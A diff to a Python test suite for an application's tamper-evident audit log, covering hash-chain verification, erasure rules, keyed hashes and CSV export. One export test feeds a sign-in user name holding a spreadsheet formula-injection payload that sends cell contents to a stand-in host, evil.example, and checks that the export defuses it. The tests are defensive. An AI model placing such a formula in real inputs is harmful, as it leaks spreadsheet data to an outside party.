@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import sqlite3
+from contextlib import closing
 from datetime import date, datetime
 from pathlib import Path
 from types import SimpleNamespace
@@ -113,12 +114,20 @@ ERASE = ("UPDATE audit_events SET changes = '', detail = '', salt = '', erased_a
          "WHERE id = 2")
 
 
-def _anonymise_person_7(ctx: AppContext) -> None:
-    """Stand-in for retention's own marking (tests/services/test_retention.py runs the real one)."""
+def _mark_person_7_anonymised(ctx: AppContext) -> None:
+    """The person marked anonymised, as someone with the file could do it by hand."""
     with ctx.session_factory.begin() as session:
         session.add(Person(id=7, reference="P000007", surname="Anonymised", forenames="Anonymised", surname_norm="",
                            forenames_norm="", date_of_birth=date(1990, 5, 1), created_at=datetime(2026, 3, 2),
                            anonymised_at=datetime(2033, 6, 1, 9, 0)))
+
+
+def _anonymise_person_7(ctx: AppContext) -> None:
+    """Stand-in for retention's own run (tests/services/test_retention.py runs the real one): the
+    person marked and the chain's ``person_anonymised`` row that makes their rows' erasure valid."""
+    _mark_person_7_anonymised(ctx)
+    with ctx.unit_of_work() as session:
+        audit.log(session, ctx, "person_anonymised", entity="person", record_id=7, reference="P000007")
 
 
 def test_erasing_values_keeps_the_chain_and_shows_as_erased(ctx: AppContext, tmp_path: Path) -> None:
@@ -168,29 +177,28 @@ def test_the_database_allows_only_a_whole_erasure(ctx: AppContext, sql: str) -> 
 
 
 def test_rows_from_before_revision_0007_verify_and_cannot_be_erased(ctx: AppContext, db_path: Path) -> None:
-    """A version-1 row (hash over its values, as revision 0005 wrote them) in the chain."""
-    _write(ctx, 1)
-    with ctx.reading() as session:
-        first = session.get(AuditEvent, 1)
-        old = SimpleNamespace(id=2, at=first.at, username="tester", action="changed", entity="person",
-                              record_id=7, record_reference="P000007", person_id=7,
-                              changes='[["surname",null,"Smith"]]', detail="", prev_hash=first.hash, hash_version=1)
-        old_hash = audit._row_hash(old)
+    """A version-1 row (hash over its values, as revision 0005 wrote them), then the marker row
+    revision 0010 writes, then keyed rows."""
+    old = SimpleNamespace(id=1, at=datetime(2026, 3, 2, 10, 0), username="tester", action="changed", entity="person",
+                          record_id=7, record_reference="P000007", person_id=7,
+                          changes='[["surname",null,"Smith"]]', detail="", prev_hash=audit.GENESIS, hash_version=1)
     with sqlite3.connect(db_path) as connection:
         connection.execute("INSERT INTO audit_events (id, at, username, action, entity, record_id, record_reference, "
-                           "person_id, changes, detail, prev_hash, hash) VALUES (2, ?, 'tester', 'changed', 'person', "
-                           "7, 'P000007', 7, ?, '', ?, ?)", (old.at.isoformat(sep=" "), old.changes, first.hash,
-                                                           old_hash))
+                           "person_id, changes, detail, prev_hash, hash, hash_version) VALUES (1, ?, 'tester', "
+                           "'changed', 'person', 7, 'P000007', 7, ?, '', ?, ?, 1)",
+                           (old.at.isoformat(sep=" "), old.changes, audit.GENESIS, audit._row_hash(old)))
     connection.close()
+    with ctx.unit_of_work() as session:
+        audit.record(session, "installation", ctx.now(), audit.MARKER_ACTION, entity="audit")
     _write(ctx, 1)
     assert AuditTrailService(ctx).verify().ok
     _anonymise_person_7(ctx)
     with ctx.unit_of_work() as session:
-        assert audit.erase(session, datetime(2033, 6, 1, 9, 0), person_ids=[7]) == 2  # rows 1 and 3
+        assert audit.erase(session, datetime(2033, 6, 1, 9, 0), person_ids=[7]) == 1  # row 3
     with ctx.reading() as session:
-        assert session.get(AuditEvent, 2).changes == '[["surname",null,"Smith"]]'
+        assert session.get(AuditEvent, 1).changes == '[["surname",null,"Smith"]]'
     with pytest.raises(DBAPIError, match="append-only"), ctx.engine.begin() as connection:
-        connection.exec_driver_sql(ERASE)
+        connection.exec_driver_sql(ERASE.replace("id = 2", "id = 1"))
     assert AuditTrailService(ctx).verify().ok
 
 
@@ -200,7 +208,79 @@ def test_verify_finds_an_erasure_made_by_hand(ctx: AppContext) -> None:
     with ctx.engine.begin() as connection:
         connection.exec_driver_sql(ERASE)
     result = AuditTrailService(ctx).verify()
-    assert not result.ok and "row 2: its values were erased but its record was not anonymised" in result.summary()
+    assert not result.ok and "row 2: its values were erased but the chain does not show" in result.summary()
+
+
+def test_an_erasure_after_marking_a_person_anonymised_by_hand_is_found(ctx: AppContext) -> None:
+    """Issue 14 item 10: marking the person anonymised by hand does not make the erasure valid;
+    only the chain's own retention row does."""
+    _write(ctx, 3)
+    _mark_person_7_anonymised(ctx)
+    with ctx.engine.begin() as connection:
+        connection.exec_driver_sql(ERASE)
+    result = AuditTrailService(ctx).verify()
+    assert not result.ok and "row 2: its values were erased but the chain does not show" in result.summary()
+
+
+def _rewrite_unkeyed(path: Path, key: bytes | None = None) -> None:
+    """What someone with the file could do without the key: drop the guard, change a row, then
+    recompute every hash (plain SHA-256, or HMAC under a key of their own)."""
+    _tamper(path, "UPDATE audit_events SET username = 'someone' WHERE id = 2")
+    with closing(sqlite3.connect(path)) as connection:
+        rows = connection.execute("SELECT id, at, username, action, entity, record_id, record_reference, person_id, "
+                                  "changes, detail, salt, content_digest FROM audit_events ORDER BY id").fetchall()
+        prev = audit.GENESIS
+        for (row_id, at, username, action, entity, record_id, reference, person_id, changes, detail, salt,
+             digest) in rows:
+            row = SimpleNamespace(id=row_id, at=datetime.fromisoformat(at), username=username, action=action,
+                                  entity=entity, record_id=record_id, record_reference=reference, person_id=person_id,
+                                  changes=changes, detail=detail, content_digest=digest, prev_hash=prev,
+                                  hash_version=2 if key is None else 3)
+            row_hash = audit._row_hash(row, key)
+            connection.execute("UPDATE audit_events SET prev_hash = ?, hash = ?, hash_version = ? WHERE id = ?",
+                               (prev, row_hash, row.hash_version, row_id))
+            prev = row_hash
+        connection.commit()
+
+
+@pytest.mark.parametrize(("key", "found"), [
+    (None, "none is keyed with the audit key"),
+    (b"k" * 32, "row 1: its content does not match its hash"),
+])
+def test_a_chain_rewritten_without_the_key_does_not_verify(ctx: AppContext, db_path: Path, key: bytes | None,
+                                                           found: str) -> None:
+    """Issue 14 item 10: the chain's hashes are keyed with a secret outside the database."""
+    _write(ctx, 5)
+    assert AuditTrailService(ctx).verify().ok
+    ctx.engine.dispose()
+    _rewrite_unkeyed(db_path, key)
+    with ctx.reading() as session:
+        result = audit.verify(session)
+    assert not result.ok and found in result.summary()
+
+
+def test_the_key_is_a_private_file_outside_the_database(ctx: AppContext, tmp_path: Path,
+                                                        monkeypatch: pytest.MonkeyPatch) -> None:
+    """A verify on a workstation with another key reports every keyed row: every workstation
+    writing to one database needs the same key (DIVERSION_AUDIT_KEY_FILE)."""
+    import stat
+    import sys
+
+    from diversion_desktop.store import audit_chain
+
+    _write(ctx, 2)
+    assert audit_chain.key_path().is_file()
+    if sys.platform != "win32":
+        assert stat.S_IMODE(audit_chain.key_path().stat().st_mode) == 0o600
+    monkeypatch.setenv(audit_chain.KEY_ENV, str(tmp_path / "other-key"))
+    try:
+        with ctx.reading() as session:
+            result = audit.verify(session)
+        assert (tmp_path / "other-key").is_file() and not result.ok
+        assert "audit key is not the one it was written with" in result.summary()
+    finally:
+        monkeypatch.delenv(audit_chain.KEY_ENV)
+        audit_chain.forget_key()
 
 
 def test_verify_finds_values_written_under_an_erased_mark(ctx: AppContext, db_path: Path) -> None:
@@ -211,3 +291,26 @@ def test_verify_finds_values_written_under_an_erased_mark(ctx: AppContext, db_pa
                      "erased_at = '2033-06-01 09:00:00' WHERE id = 2")
     result = AuditTrailService(ctx).verify()
     assert not result.ok and "row 2: marked erased but holds values" in result.summary()
+
+
+def test_the_audit_export_holds_no_live_formula(ctx: AppContext, tmp_path: Path, make_draft) -> None:  # noqa: ANN001
+    """Issue 14 item 11: a user name typed at sign-in and a legal-hold reason starting with ``=``
+    are written as text the spreadsheet program shows, never as formulas it runs."""
+    import csv
+
+    from diversion_desktop.services.intake import IntakeService
+    from diversion_desktop.services.retention import RetentionService
+    from diversion_desktop.services.users import SignInRefused, UserService
+    from diversion_desktop.spreadsheets.cells import FORMULA_STARTS
+
+    typed = '=HYPERLINK("http://evil.example/?"&B2,"ok")'
+    with pytest.raises(SignInRefused):
+        UserService(ctx).sign_in(typed, "whatever it is")
+    saved = IntakeService(ctx).save(make_draft())
+    RetentionService(ctx).set_legal_hold(saved.id, True, "=1+1 appeal lodged")
+    out = tmp_path / "audit.csv"
+    AuditTrailService(ctx).export(AuditFilters(), out)
+    with out.open(encoding="utf-8-sig", newline="") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row]
+    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
+    assert "'" + typed.lower()[:40] in cells and any(cell.startswith("'=1+1 appeal") for cell in cells)
